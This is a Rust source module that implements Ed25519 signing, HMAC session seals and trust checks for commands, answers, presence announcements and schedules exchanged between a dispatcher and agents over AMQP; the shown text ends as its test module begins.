//! Trust (ARCHITECTURE.md, Trust): commands signed by a dispatcher key the agent trusts, answers signed by
//! the agent key the dispatcher pinned. The broker is a transport, never an authority.
//!
//! - Keys are Ed25519 ([`SecretKey`], [`PublicKey`]); a public key is written
//!   `ed25519:<base64 of its 32 bytes>`, and named in headers and logs by its [`KeyId`] (the first
//!   8 bytes of its SHA-256, in hex).
//! - The msgpack body is unchanged, so old readers keep working; the AMQP headers
//!   [`KEY_HEADER`] and [`SIGNATURE_HEADER`] carry a [`Seal`] (key id and signature), or, between
//!   a dispatcher and an agent that agreed a [`crate::session`], [`SESSION_HEADER`] and
//!   [`MAC_HEADER`] carry one (session id and HMAC over the same bytes).
//! - A command's signature covers [`COMMAND_CONTEXT`] and the whole body (every envelope field:
//!   kind, message id, target, `issued_at`, `not_after`, and the kind's body with its ticket); an
//!   answer's covers [`ANSWER_CONTEXT`], the message id of the request it answers, and its body, so
//!   an old answer replayed to another request does not verify. A presence announcement's covers
//!   [`ANNOUNCEMENT_CONTEXT`] and its body, which holds the agent's id and the time it announced,
//!   so a copy replayed later still says that old time (and drops out with it). A schedule's
//!   (`dispatcher schedule`) covers [`SCHEDULE_CONTEXT`] and its record as the journal keeps it, so
//!   no signature of a command, answer or announcement is one of a schedule, nor the reverse.
//! - [`check_command_seal`] and [`check_command_header`] are the agent's decisions,
//!   [`check_answer`] and [`check_announcement`] the dispatcher's: plain functions, no I/O.
//! - [`TrustedKeys`] (the agent's `--trusted-keys` file) and [`KnownAgents`] (the dispatcher's
//!   `--known-agents` file) parse their line formats.
//!
//! Key files are the one place this crate touches the file system ([`SecretKey::load`],
//! [`SecretKey::create`], [`read_file`]): both binaries read and write them the same way.
//! Secret keys and signatures never appear in `Debug` output or messages; only key ids do.

use crate::envelope::Envelope;
use crate::session::{Session, SessionId, MAC_HEADER, SESSION_HEADER};
use crate::topology::CLOCK_SKEW_ALLOWANCE_MS;
use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine;
use curve25519_dalek::edwards::CompressedEdwardsY;
use ed25519_dalek::{Signature, Signer, SigningKey, VerifyingKey};
use std::collections::BTreeMap;
use std::fmt;
use std::path::{Path, PathBuf};
use zeroize::Zeroizing;

/// What a command's signature covers before its body.
pub const COMMAND_CONTEXT: &[u8] = b"cuttle command v1\0";
/// What an answer's signature covers before the request's message id and its own body.
pub const ANSWER_CONTEXT: &[u8] = b"cuttle answer v1\0";
/// What a presence announcement's signature covers before its body.
pub const ANNOUNCEMENT_CONTEXT: &[u8] = b"cuttle announcement v1\0";
/// What a schedule's signature covers before its record (the service's journal keeps both).
pub const SCHEDULE_CONTEXT: &[u8] = b"cuttle schedule v1\0";
/// AMQP header carrying the signing key's id (hex).
pub const KEY_HEADER: &str = "cuttle-key";
/// AMQP header carrying the signature (base64 of 64 bytes).
pub const SIGNATURE_HEADER: &str = "cuttle-sig";
/// Longest a signed command may stay valid: `not_after` at most this long after `issued_at`, so
/// a captured command is worthless after a day at most.
pub const MAX_COMMAND_WINDOW_MS: u64 = 24 * 3600 * 1000;
/// How a public key is written.
pub const PUBLIC_KEY_PREFIX: &str = "ed25519:";
/// How a secret key file begins.
const SECRET_KEY_PREFIX: &str = "cuttle-ed25519-secret:";

#[derive(Debug, thiserror::Error)]
pub enum KeyError {
    #[error("{path}: {source}")]
    Io { path: PathBuf, source: std::io::Error },
    #[error("{path} already exists: not overwriting a key")]
    Exists { path: PathBuf },
    #[error("{path}: not a cuttle secret key (expected one line `{SECRET_KEY_PREFIX}<base64>`)")]
    NotAKey { path: PathBuf },
    #[error("cannot get random bytes from the system: {0}")]
    Random(String),
    #[error("{path}:{line}: {reason}")]
    Line { path: PathBuf, line: usize, reason: String },
}

/// The id of a public key: the first 8 bytes of its SHA-256, shown in hex. Not secret.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct KeyId([u8; 8]);

impl KeyId {
    pub fn parse(hex_id: &str) -> Option<KeyId> {
        let mut id = [0u8; 8];
        hex::decode_to_slice(hex_id, &mut id).ok()?;
        Some(KeyId(id))
    }

    pub(crate) fn as_bytes(&self) -> &[u8] {
        &self.0
    }
}

impl fmt::Display for KeyId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&hex::encode(self.0))
    }
}

impl fmt::Debug for KeyId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "KeyId({self})")
    }
}

/// An Ed25519 public key, written `ed25519:<base64>`.
#[derive(Clone, Copy, PartialEq, Eq)]
pub struct PublicKey {
    key: VerifyingKey,
    id: KeyId,
}

impl PublicKey {
    fn new(key: VerifyingKey) -> PublicKey {
        use sha2::Digest;
        let digest = sha2::Sha256::digest(key.as_bytes());
        let mut id = [0u8; 8];
        id.copy_from_slice(&digest[..8]);
        PublicKey { key, id: KeyId(id) }
    }

    pub fn parse(text: &str) -> Result<PublicKey, String> {
        let encoded = text
            .strip_prefix(PUBLIC_KEY_PREFIX)
            .ok_or_else(|| format!("a public key starts with `{PUBLIC_KEY_PREFIX}`"))?;
        let bytes = BASE64.decode(encoded).map_err(|e| format!("public key is not base64: {e}"))?;
        let bytes: [u8; 32] = bytes.try_into().map_err(|_| "a public key is 32 bytes".to_string())?;
        let key = VerifyingKey::from_bytes(&bytes).map_err(|_| "not a valid Ed25519 public key".to_string())?;
        Ok(PublicKey::new(key))
    }

    pub fn id(&self) -> KeyId {
        self.id
    }

    /// The same key as an X25519 public key ([`crate::sealed`]).
    pub(crate) fn x25519_point(&self) -> [u8; 32] {
        self.key.to_montgomery().to_bytes()
    }

    /// Whether `signature` is this key's over `parts` one after the other, exactly as
    /// [`VerifyingKey::verify_strict`] over their concatenation would say, without making it: a
    /// command's body may be 16 MiB, and a copy of it for each delivery being checked would
    /// double what the agent holds. Strict as `verify_strict` is: a key of small order (weak, for
    /// which a signature can verify for almost any message) or an `R` that is not on the curve or
    /// of small order is refused here, and a non-canonical `s` by the stream verifier.
    fn verifies(&self, parts: &[&[u8]], signature: &[u8; 64]) -> bool {
        let mut r = [0u8; 32];
        r.copy_from_slice(&signature[..32]);
        if self.key.is_weak() || CompressedEdwardsY(r).decompress().is_none_or(|r| r.is_small_order()) {
            return false;
        }
        let Ok(mut stream) = self.key.verify_stream(&Signature::from_bytes(signature)) else { return false };
        for part in parts {
            stream.update(part);
        }
        stream.finalize_and_verify().is_ok()
    }
}

impl fmt::Display for PublicKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{PUBLIC_KEY_PREFIX}{}", BASE64.encode(self.key.as_bytes()))
    }
}

impl fmt::Debug for PublicKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "PublicKey({})", self.id)
    }
}

/// An Ed25519 secret key. Its `Debug` shows only the public key's id.
#[derive(Clone)]
pub struct SecretKey {
    key: SigningKey,
    public: PublicKey,
}

impl fmt::Debug for SecretKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "SecretKey({})", self.public.id)
    }
}

impl SecretKey {
    fn from_seed(seed: &[u8; 32]) -> SecretKey {
        let key = SigningKey::from_bytes(seed);
        let public = PublicKey::new(key.verifying_key());
        SecretKey { key, public }
    }

    /// A new key from the operating system's random source.
    pub fn generate() -> Result<SecretKey, KeyError> {
        use rand::TryRng;
        let mut seed = Zeroizing::new([0u8; 32]);
        rand::rngs::SysRng.try_fill_bytes(seed.as_mut()).map_err(|e| KeyError::Random(e.to_string()))?;
        Ok(SecretKey::from_seed(&seed))
    }

    pub fn public(&self) -> &PublicKey {
        &self.public
    }

    pub fn id(&self) -> KeyId {
        self.public.id
    }

    /// The same key as an X25519 secret, for [`PublicKey::x25519_point`] ([`crate::sealed`]).
    pub(crate) fn x25519_secret(&self) -> Zeroizing<[u8; 32]> {
        Zeroizing::new(self.key.to_scalar_bytes())
    }

    fn to_text(&self) -> String {
        format!("{SECRET_KEY_PREFIX}{}\n", BASE64.encode(self.key.to_bytes()))
    }

    fn from_text(text: &str) -> Option<SecretKey> {
        let encoded = text.trim().strip_prefix(SECRET_KEY_PREFIX)?;
        let bytes = Zeroizing::new(BASE64.decode(encoded).ok()?);
        let seed: &[u8; 32] = bytes.as_slice().try_into().ok()?;
        Some(SecretKey::from_seed(seed))
    }

    /// Reads a key file written by [`SecretKey::create`].
    pub fn load(path: &Path) -> Result<SecretKey, KeyError> {
        let text = Zeroizing::new(read_file(path)?);
        SecretKey::from_text(&text).ok_or_else(|| KeyError::NotAKey { path: path.to_owned() })
    }

    /// Generates a key and writes it to `path`, readable by its owner only (mode 0600). Never
    /// overwrites: an existing file is an error.
    pub fn create(path: &Path) -> Result<SecretKey, KeyError> {
        use std::io::Write;
        use std::os::unix::fs::OpenOptionsExt;
        let key = SecretKey::generate()?;
        let io = |source| KeyError::Io { path: path.to_owned(), source };
        if let Some(dir) = path.parent().filter(|d| !d.as_os_str().is_empty()) {
            std::fs::create_dir_all(dir).map_err(io)?;
        }
        let mut file = match std::fs::OpenOptions::new().write(true).create_new(true).mode(0o600).open(path) {
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {
                return Err(KeyError::Exists { path: path.to_owned() })
            }
            opened => opened.map_err(io)?,
        };
        file.write_all(Zeroizing::new(key.to_text()).as_bytes()).map_err(io)?;
        file.sync_all().map_err(io)?;
        Ok(key)
    }

    /// The key at `path`, created there first if there is none. `true` when it was created.
    pub fn load_or_create(path: &Path) -> Result<(SecretKey, bool), KeyError> {
        match SecretKey::create(path) {
            Ok(key) => Ok((key, true)),
            Err(KeyError::Exists { .. }) => Ok((SecretKey::load(path)?, false)),
            Err(error) => Err(error),
        }
    }

    /// Seals a command whose encoded envelope is `body`.
    pub fn seal_command(&self, body: &[u8]) -> Seal {
        self.seal(&command_parts(body).concat())
    }

    /// Seals an answer (`body`) to the request whose message id is `request_id`.
    pub fn seal_answer(&self, request_id: &str, body: &[u8]) -> Seal {
        self.seal(&answer_parts(request_id, body).concat())
    }

    /// Seals a presence announcement whose encoded body is `body`.
    pub fn seal_announcement(&self, body: &[u8]) -> Seal {
        self.seal(&announcement_parts(body).concat())
    }

    /// Seals a schedule whose record, as the journal keeps it, is `record`.
    pub fn seal_schedule(&self, record: &[u8]) -> Seal {
        self.seal(&schedule_parts(record).concat())
    }

    fn seal(&self, message: &[u8]) -> Seal {
        Seal::Signature { key: self.public.id, signature: self.key.sign(message).to_bytes() }
    }
}

/// What a command's seal (signature or MAC) covers, in order: verified part by part, never
/// copied into one message.
pub(crate) fn command_parts(body: &[u8]) -> [&[u8]; 2] {
    [COMMAND_CONTEXT, body]
}

/// What the seal of an answer to the request `request_id` covers, in order.
pub(crate) fn answer_parts<'a>(request_id: &'a str, body: &'a [u8]) -> [&'a [u8]; 3] {
    [ANSWER_CONTEXT, request_id.as_bytes(), body]
}

/// What a presence announcement's signature covers, in order.
fn announcement_parts(body: &[u8]) -> [&[u8]; 2] {
    [ANNOUNCEMENT_CONTEXT, body]
}

/// What a schedule's signature covers, in order.
fn schedule_parts(record: &[u8]) -> [&[u8]; 2] {
    [SCHEDULE_CONTEXT, record]
}

/// Reads a whole (small) text file, naming it in the error.
pub fn read_file(path: &Path) -> Result<String, KeyError> {
    std::fs::read_to_string(path).map_err(|source| KeyError::Io { path: path.to_owned(), source })
}

/// What vouches for a message, as carried in the AMQP headers: a signature and the id of the key
/// that made it, or a MAC under a [`Session`] and the session's id.
#[derive(Clone, PartialEq, Eq)]
pub enum Seal {
    Signature { key: KeyId, signature: [u8; 64] },
    Mac { session: SessionId, tag: [u8; 32] },
}

impl fmt::Debug for Seal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Seal::Signature { key, .. } => write!(f, "Seal(by {key})"),
            Seal::Mac { session, .. } => write!(f, "Seal(in session {session})"),
        }
    }
}

/// The seal headers of a message, as read: [`KEY_HEADER`], [`SIGNATURE_HEADER`],
/// [`SESSION_HEADER`], [`MAC_HEADER`].
#[derive(Clone, Copy, Debug, Default)]
pub struct SealHeaders<'a> {
    pub key: Option<&'a str>,
    pub signature: Option<&'a str>,
    pub session: Option<&'a str>,
    pub mac: Option<&'a str>,
}

impl Seal {
    /// The key that signed, for a signature.
    pub fn signer(&self) -> Option<KeyId> {
        match self {
            Seal::Signature { key, .. } => Some(*key),
            Seal::Mac { .. } => None,
        }
    }

    /// The headers that carry it: names and values.
    pub fn to_headers(&self) -> [(&'static str, String); 2] {
        match self {
            Seal::Signature { key, signature } => {
                [(KEY_HEADER, key.to_string()), (SIGNATURE_HEADER, BASE64.encode(signature))]
            }
            Seal::Mac { session, tag } => [(SESSION_HEADER, session.to_string()), (MAC_HEADER, BASE64.encode(tag))],
        }
    }

    /// Reads the headers; `Ok(None)` when none is there (an unsigned message).
    pub fn from_headers(headers: SealHeaders<'_>) -> Result<Option<Seal>, String> {
        let decode = |name: &str, value: &str| BASE64.decode(value).map_err(|_| format!("{name} is not base64"));
        match headers {
            SealHeaders { key: None, signature: None, session: None, mac: None } => Ok(None),
            SealHeaders { key: Some(key), signature: Some(signature), session: None, mac: None } => {
                let key = KeyId::parse(key).ok_or_else(|| format!("{KEY_HEADER} is not a key id"))?;
                let signature = decode(SIGNATURE_HEADER, signature)?
                    .try_into()
                    .map_err(|_| format!("{SIGNATURE_HEADER} is not 64 bytes"))?;
                Ok(Some(Seal::Signature { key, signature }))
            }
            SealHeaders { key: None, signature: None, session: Some(session), mac: Some(mac) } => {
                let session =
                    SessionId::parse(session).ok_or_else(|| format!("{SESSION_HEADER} is not a session id"))?;
                let tag = decode(MAC_HEADER, mac)?.try_into().map_err(|_| format!("{MAC_HEADER} is not 32 bytes"))?;
                Ok(Some(Seal::Mac { session, tag }))
            }
            _ => Err(format!(
                "expected {KEY_HEADER} with {SIGNATURE_HEADER}, or {SESSION_HEADER} with {MAC_HEADER}, and nothing else"
            )),
        }
    }
}

/// A public key file line: the key and what follows it (a comment, or an agent name).
fn parse_lines(text: &str) -> impl Iterator<Item = (usize, Vec<&str>)> {
    text.lines().enumerate().filter_map(|(index, line)| {
        let line = line.trim();
        (!line.is_empty() && !line.starts_with('#')).then(|| (index + 1, line.split_whitespace().collect()))
    })
}

/// The dispatcher keys an agent trusts (`--trusted-keys`): one `ed25519:<base64> [comment]` per
/// line, `#` comments and blank lines ignored. Several keys allow rotation; removing a line (and
/// reloading, SIGHUP) revokes the key.
#[derive(Clone, Debug, Default)]
pub struct TrustedKeys {
    keys: BTreeMap<KeyId, PublicKey>,
}

impl TrustedKeys {
    pub fn parse(text: &str) -> Result<TrustedKeys, (usize, String)> {
        let mut keys = BTreeMap::new();
        for (line, words) in parse_lines(text) {
            let key = PublicKey::parse(words[0]).map_err(|reason| (line, reason))?;
            keys.insert(key.id(), key);
        }
        Ok(TrustedKeys { keys })
    }

    pub fn load(path: &Path) -> Result<TrustedKeys, KeyError> {
        TrustedKeys::parse(&read_file(path)?).map_err(|(line, reason)| KeyError::Line {
            path: path.to_owned(),
            line,
            reason,
        })
    }

    pub fn of(keys: impl IntoIterator<Item = PublicKey>) -> TrustedKeys {
        TrustedKeys { keys: keys.into_iter().map(|k| (k.id(), k)).collect() }
    }

    pub fn is_empty(&self) -> bool {
        self.keys.is_empty()
    }

    pub fn len(&self) -> usize {
        self.keys.len()
    }

    pub fn ids(&self) -> impl Iterator<Item = KeyId> + '_ {
        self.keys.keys().copied()
    }

    fn get(&self, id: KeyId) -> Option<&PublicKey> {
        self.keys.get(&id)
    }
}

/// What the dispatcher believes of one agent or pool.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Pin {
    /// Answers count only if signed by one of these keys.
    Keys(Vec<PublicKey>),
    /// An old agent that cannot sign: its answers are taken unsigned (with a warning).
    Legacy,
}

/// The agents a dispatcher knows (`--known-agents`): `<agent-id> ed25519:<base64> [comment]`,
/// `pool:<name> ed25519:<base64> [comment]` (several lines for one agent or pool: any of their
/// keys counts), or `<agent-id> legacy`. `#` comments and blank lines ignored.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct KnownAgents {
    /// By agent id, or `pool:<name>`.
    pins: BTreeMap<String, Pin>,
}

impl KnownAgents {
    pub fn parse(text: &str) -> Result<KnownAgents, (usize, String)> {
        let mut pins: BTreeMap<String, Pin> = BTreeMap::new();
        for (line, words) in parse_lines(text) {
            let [name, what, ..] = words[..] else {
                return Err((
                    line,
                    "expected `<agent-id> ed25519:<key>`, `pool:<name> ed25519:<key>` or `<agent-id> legacy`".into(),
                ));
            };
            let (kind, bare) = match name.strip_prefix("pool:") {
                Some(pool) => ("pool name", pool),
                None => ("agent id", name),
            };
            crate::topology::validate_name(kind, bare).map_err(|reason| (line, reason))?;
            let conflict = || (line, format!("{name} is pinned both to keys and as legacy"));
            match (what, pins.get_mut(name)) {
                ("legacy", _) if kind == "pool name" => {
                    return Err((line, "a pool cannot be legacy: script v1 agents do not serve pools".into()))
                }
                ("legacy", None) => {
                    pins.insert(name.to_owned(), Pin::Legacy);
                }
                ("legacy", Some(Pin::Legacy)) => {}
                ("legacy", Some(Pin::Keys(_))) | (_, Some(Pin::Legacy)) => return Err(conflict()),
                (key, existing) => {
                    let key = PublicKey::parse(key).map_err(|reason| (line, reason))?;
                    match existing {
                        Some(Pin::Keys(keys)) => keys.push(key),
                        _ => {
                            pins.insert(name.to_owned(), Pin::Keys(vec![key]));
                        }
                    }
                }
            }
        }
        Ok(KnownAgents { pins })
    }

    pub fn load(path: &Path) -> Result<KnownAgents, KeyError> {
        KnownAgents::parse(&read_file(path)?).map_err(|(line, reason)| KeyError::Line {
            path: path.to_owned(),
            line,
            reason,
        })
    }

    /// The pin of a target as written in an envelope: an agent id, or `pool:<name>`.
    pub fn pin(&self, target: &str) -> Option<&Pin> {
        self.pins.get(target)
    }

    /// The pin an agent's own word (its presence announcements) is checked against: the agent
    /// id's, or, for an agent with none, the pin of the pool it says it is in. An agent pinned by
    /// id is never believed under a pool key.
    pub fn pin_of_agent(&self, agent_id: &str, pool: Option<&str>) -> Option<&Pin> {
        self.pin(agent_id).or_else(|| self.pin(&format!("pool:{}", pool?)))
    }
}

/// Who an agent is, for the target check.
#[derive(Clone, Copy, Debug)]
pub struct Identity<'a> {
    pub agent_id: &'a str,
    pub pool: Option<&'a str>,
}

/// Why an agent refuses a command. Shown to the sender (in a `NotAuthorized` reply, whatever the
/// reason: every failed trust check is answered so, a signed command past its `not_after`
/// included: ARCHITECTURE.md, Trust) and logged.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    #[error("unsigned command: this agent runs only commands signed by a dispatcher key it trusts")]
    Unsigned,
    #[error("bad signature headers: {0}")]
    BadHeaders(String),
    #[error("signed by key {0}, which this agent does not trust")]
    UntrustedKey(KeyId),
    #[error("the signature by key {0} does not verify: the command was altered, or not made by that key")]
    BadSignature(KeyId),
    #[error("addressed to {target:?}, not to this agent ({expected})")]
    Misaddressed { target: String, expected: String },
    #[error("no not_after: a signed command must say until when it may run")]
    NoDeadline,
    #[error(
        "valid for {} after it was issued, more than the 24h allowed",
        crate::submission::short(std::time::Duration::from_millis(*window_ms))
    )]
    WindowTooLong { window_ms: u64 },
    #[error("expired: its not_after has passed")]
    Expired,
    #[error("session {0} is not one this agent holds (it restarted or let it expire): send the command signed")]
    UnknownSession(SessionId),
    #[error("the MAC of session {0} does not verify: the command was altered, or not made in that session")]
    BadMac(SessionId),
}

impl Refusal {
    /// The reason a refusal is counted under (`cuttle_commands_refused_total`): `Expired` for a
    /// command past its deadline, so that a stale queue is told apart from commands nobody
    /// trusted, and `UnknownSession` for a session forgotten (after a restart: not an attack);
    /// `NotAuthorized` for everything else.
    pub fn counted_as(&self) -> crate::ErrorKind {
        match self {
            Refusal::Expired => crate::ErrorKind::Expired,
            Refusal::UnknownSession(_) => crate::ErrorKind::UnknownSession,
            _ => crate::ErrorKind::NotAuthorized,
        }
    }

    /// The kind of the answer: `UnknownSession` tells the dispatcher to sign the command and
    /// send it again; every other refusal is `NotAuthorized`.
    pub fn answered_as(&self) -> crate::ErrorKind {
        match self {
            Refusal::UnknownSession(_) => crate::ErrorKind::UnknownSession,
            _ => crate::ErrorKind::NotAuthorized,
        }
    }
}

/// How a command passed the signature check.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Origin {
    /// Signed by this trusted key.
    Key(KeyId),
    /// MAC'd in a session this trusted key offered.
    Session { key: KeyId, session: SessionId },
    /// Unsigned, and the agent accepts unsigned commands (`--insecure-allow-unsigned`).
    Unsigned,
}

/// The agent's first check, on the raw body before it is decoded: a seal by a trusted key that
/// verifies over the whole body, or a MAC over it in `session`, the session the seal names as
/// the agent holds it (`None` if it holds none by that id), offered by a key still trusted.
/// Unsigned commands pass only when `allow_unsigned`; a seal that is present but does not
/// verify is refused even then.
pub fn check_command_seal(
    trusted: &TrustedKeys,
    allow_unsigned: bool,
    seal: Result<Option<Seal>, String>,
    body: &[u8],
    session: Option<&Session>,
) -> Result<Origin, Refusal> {
    match seal.map_err(Refusal::BadHeaders)? {
        None if allow_unsigned => Ok(Origin::Unsigned),
        None => Err(Refusal::Unsigned),
        Some(Seal::Signature { key, signature }) => {
            let public = trusted.get(key).ok_or(Refusal::UntrustedKey(key))?;
            if !public.verifies(&command_parts(body), &signature) {
                return Err(Refusal::BadSignature(key));
            }
            Ok(Origin::Key(key))
        }
        Some(Seal::Mac { session: id, tag }) => {
            let session = session.filter(|s| s.id() == id).ok_or(Refusal::UnknownSession(id))?;
            let key = session.dispatcher_key();
            trusted.get(key).ok_or(Refusal::UntrustedKey(key))?;
            if !session.verifies(&command_parts(body), &tag) {
                return Err(Refusal::BadMac(id));
            }
            Ok(Origin::Session { key, session: id })
        }
    }
}

/// The agent's checks of a signed command's envelope, once its seal verified: addressed to this
/// agent (its id, or `pool:<its pool>`), with a `not_after` at most 24 h after `issued_at` that
/// has not passed (allowing [`CLOCK_SKEW_ALLOWANCE_MS`]).
pub fn check_command_header(header: &Envelope<()>, me: Identity<'_>, now_ms: u64) -> Result<(), Refusal> {
    let for_pool = me.pool.is_some_and(|pool| header.target.strip_prefix("pool:") == Some(pool));
    if header.target != me.agent_id && !for_pool {
        let expected = match me.pool {
            Some(pool) => format!("{} or pool:{pool}", me.agent_id),
            None => me.agent_id.to_owned(),
        };
        return Err(Refusal::Misaddressed { target: header.target.clone(), expected });
    }
    let not_after = header.not_after.ok_or(Refusal::NoDeadline)?;
    let window_ms = not_after.saturating_sub(header.issued_at);
    if window_ms > MAX_COMMAND_WINDOW_MS {
        return Err(Refusal::WindowTooLong { window_ms });
    }
    if now_ms > not_after.saturating_add(CLOCK_SKEW_ALLOWANCE_MS) {
        return Err(Refusal::Expired);
    }
    Ok(())
}

/// Why the dispatcher does not believe an answer or an announcement.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum Forged {
    #[error("unsigned")]
    Unsigned,
    #[error("bad signature headers: {0}")]
    BadHeaders(String),
    #[error("signed by key {0}, which is not pinned for this target")]
    UnpinnedKey(KeyId),
    #[error("the signature by key {0} does not verify (altered, or signed for another request or message)")]
    BadSignature(KeyId),
    #[error("MAC'd in session {0}, which is not the one this request was sent in")]
    OtherSession(SessionId),
    #[error("the MAC of session {0} does not verify (altered, or made for another request)")]
    BadMac(SessionId),
    #[error(
        "it answers another message than the request sent (someone sent the agent a message under this request's ids, or replayed an old command under them)"
    )]
    OtherRequest,
    #[error("it is about ticket {answered}, not the ticket asked about ({asked})")]
    OtherTicket { asked: crate::Ticket, answered: crate::Ticket },
    #[error(
        "it does not name the request it answers (the agent predates {}), and --strict-answers refuses such answers",
        crate::SERVICE_ANSWER_BINDING
    )]
    Unbound,
}

/// How an answer or announcement was believed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Believed {
    /// Signed by this pinned key (for this request, if an answer), or MAC'd in the session the
    /// request was sent in, which this pinned key agreed.
    Key(KeyId),
    /// From an agent pinned as legacy, which cannot sign.
    Legacy,
}

/// The dispatcher's check of an answer (`body`) to its request `request_id`: it counts only if
/// sealed by a key pinned for the target asked, over this request's id and this body; or MAC'd
/// so in `session`, the session the request was sent in, agreed by a key still pinned.
pub fn check_answer(
    pin: &Pin,
    request_id: &str,
    seal: Result<Option<Seal>, String>,
    body: &[u8],
    session: Option<&Session>,
) -> Result<Believed, Forged> {
    let (id, tag, keys) = match (&seal, pin) {
        (Ok(Some(Seal::Mac { session, tag })), Pin::Keys(keys)) => (*session, *tag, keys),
        _ => return check_pinned(pin, seal, &answer_parts(request_id, body)),
    };
    let session = session.filter(|s| s.id() == id).ok_or(Forged::OtherSession(id))?;
    let key = session.agent_key();
    if !keys.iter().any(|k| k.id() == key) {
        return Err(Forged::UnpinnedKey(key));
    }
    if !session.verifies(&answer_parts(request_id, body), &tag) {
        return Err(Forged::BadMac(id));
    }
    Ok(Believed::Key(key))
}

/// Whether a believed answer named the request it answers ([`check_binding`]).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Binding {
    /// It names this very request.
    Bound,
    /// It names none: its agent predates [`crate::SERVICE_ANSWER_BINDING`] (or is legacy), so it
    /// may answer a message someone else sent under this request's ids.
    Unbound,
}

/// The dispatcher's second check of an answer whose seal it believed ([`check_answer`]): that it
/// answers this very request. `in_reply_to` is what the answer's envelope names; `digest` and
/// `ticket` are the request's own ([`crate::request_digest`] of the bytes sent, and its ticket).
///
/// - An answer naming another message, or another ticket, answers someone else's message: it is
///   not believed (an attacker copied this request's correlation id and reply-to onto a message
///   of its own, or replayed an old command under them, and the agent answered that).
/// - A status about another ticket is never believed, named or not.
/// - An answer naming nothing comes from an agent that predates answer binding: believed
///   ([`Binding::Unbound`], for a warning), unless `strict` (`--strict-answers`) and its agent
///   is pinned by key (a legacy pin is the operator's choice to believe unsigned answers).
pub fn check_binding(
    in_reply_to: Option<&crate::InReplyTo>,
    digest: &[u8; 32],
    ticket: Option<&crate::Ticket>,
    reply: &crate::Reply,
    believed: Believed,
    strict: bool,
) -> Result<Binding, Forged> {
    let other_ticket = |answered: &crate::Ticket| match ticket {
        Some(asked) if asked != answered => {
            Err(Forged::OtherTicket { asked: asked.clone(), answered: answered.clone() })
        }
        _ => Ok(()),
    };
    let binding = match in_reply_to {
        Some(named) if !named.answers(digest) => return Err(Forged::OtherRequest),
        Some(named) => {
            named.ticket.as_ref().map_or(Ok(()), other_ticket)?;
            Binding::Bound
        }
        None if strict && believed != Believed::Legacy => return Err(Forged::Unbound),
        None => Binding::Unbound,
    };
    if let crate::Reply::ScriptStatus(status) = reply {
        other_ticket(&status.ticket)?;
    }
    Ok(binding)
}

/// The dispatcher's check of a presence announcement (`body`): it counts only if sealed by a key
/// of `pin` ([`KnownAgents::pin_of_agent`]) over this body. Legacy pins are believed unsigned,
/// as their answers are.
pub fn check_announcement(pin: &Pin, seal: Result<Option<Seal>, String>, body: &[u8]) -> Result<Believed, Forged> {
    check_pinned(pin, seal, &announcement_parts(body))
}

/// The service's check of a schedule before one of its slots runs: `seal` is a signature by
/// `key` (the service's own) over `record`, exactly as it was signed. A schedule changed in the
/// journal by anyone without the key, or signed by another key, does not pass.
pub fn check_schedule(key: &PublicKey, seal: Result<Option<Seal>, String>, record: &[u8]) -> Result<KeyId, Forged> {
    match check_pinned(&Pin::Keys(vec![*key]), seal, &schedule_parts(record))? {
        Believed::Key(key) => Ok(key),
        // Only a legacy pin believes unsigned messages, and this pin is a key.
        Believed::Legacy => Err(Forged::Unsigned),
    }
}

/// Whether `seal` is by a key of `pin` over `message`, the concatenation of its parts (never made).
fn check_pinned(pin: &Pin, seal: Result<Option<Seal>, String>, message: &[&[u8]]) -> Result<Believed, Forged> {
    let keys = match pin {
        Pin::Legacy => return Ok(Believed::Legacy),
        Pin::Keys(keys) => keys,
    };
    let (key, signature) = match seal.map_err(Forged::BadHeaders)?.ok_or(Forged::Unsigned)? {
        Seal::Signature { key, signature } => (key, signature),
        // Announcements are always signed, and answers MAC'd only in the request's session.
        Seal::Mac { session, .. } => return Err(Forged::OtherSession(session)),
    };
    let public = keys.iter().find(|k| k.id() == key).ok_or(Forged::UnpinnedKey(key))?;
    if !public.verifies(message, &signature) {
        return Err(Forged::BadSignature(key));
    }
    Ok(Believed::Key(key))
}

/// The AMQP headers that carry a [`Seal`] (feature `amqp`).
#[cfg(feature = "amqp")]
pub mod amqp {
    use super::{Seal, SealHeaders, KEY_HEADER, MAC_HEADER, SESSION_HEADER, SIGNATURE_HEADER};
    use lapin::types::{AMQPValue, FieldTable};
    use lapin::BasicProperties;

    /// `properties` with the seal's headers added.
    pub fn with_seal(properties: BasicProperties, seal: &Seal) -> BasicProperties {
        let mut headers = FieldTable::default();
        for (name, value) in seal.to_headers() {
            headers.insert(name.into(), AMQPValue::LongString(value.into()));
        }
        properties.with_headers(headers)
    }

    /// The seal a message carries in its headers: `Ok(None)` when it carries none.
    pub fn seal_of(properties: &BasicProperties) -> Result<Option<Seal>, String> {
        let text = |name: &str| match properties.headers().as_ref()?.inner().get(name)? {
            AMQPValue::LongString(value) => Some(String::from_utf8_lossy(value.as_bytes()).into_owned()),
            _ => None,
        };
        let [key, signature, session, mac] = [KEY_HEADER, SIGNATURE_HEADER, SESSION_HEADER, MAC_HEADER].map(text);
        Seal::from_headers(SealHeaders {
            key: key.as_deref(),
            signature: signature.as_deref(),
            session: session.as_deref(),
            mac: mac.as_deref(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::messages::{Kind, StartScriptV2};
    use crate::Ticket;
    use proptest::prelude::*;

    fn key(seed: u8) -> SecretKey {
        SecretKey::from_seed(&[seed; 32])
    }

